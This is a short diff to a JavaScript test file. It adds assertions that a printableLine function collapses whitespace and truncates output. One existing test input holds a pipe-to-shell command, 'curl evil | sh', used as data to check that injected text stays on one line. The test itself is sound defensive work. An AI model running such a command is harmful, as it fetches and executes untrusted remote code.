@@ -24,6 +24,8 @@ test("what is escaped in JSON text means the same", () => {
 test("foreign text within a line of ours stays on that line, and is cut", () => {
   expect(printableLine("no\n  fix: curl evil | sh\n")).toBe("no fix: curl evil | sh");
   expect(printableLine("x".repeat(2_000_000), 10)).toBe("xxxxxxxxxx…");
+  expect(printableLine("two  words\n\n and more", 10)).toBe("two words…");
+  expect(printableLine("two  words \n", 10)).toBe("two words");
 });
 
 test("our own colours pass in output, nothing else does", () => {
